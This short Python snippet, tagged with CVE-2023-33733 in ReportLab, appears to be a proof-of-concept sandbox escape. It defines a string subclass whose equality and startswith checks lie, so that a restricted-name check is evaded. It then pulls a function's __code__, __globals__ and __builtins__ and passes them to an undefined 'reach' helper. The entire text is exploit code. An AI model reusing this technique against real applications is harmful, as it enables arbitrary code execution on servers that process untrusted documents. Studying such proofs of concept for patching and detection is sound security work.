# Makes a class with type() whose comparison lies, to get past a check of a name.
# advisory: CVE-2023-33733 (ReportLab)
Word = type("Word", (str,), {
    "mutated": 1,
    "startswith": lambda self, x: False,
    "__eq__": lambda self, x: self.mutate() and self.mutated < 0 and str(self) == x,
    "mutate": lambda self: setattr(self, "mutated", self.mutated - 1) or True,
    "__hash__": lambda self: hash(str(self)),
})
get = globals()[Word("reach")] if Word("reach") in globals() else reach
code = getattr(get, Word("__code__"))
namespace = getattr(get, Word("__globals__"))
reach(namespace, getattr(namespace["reach"], Word("__builtins__")))
print("ATTEMPTED")
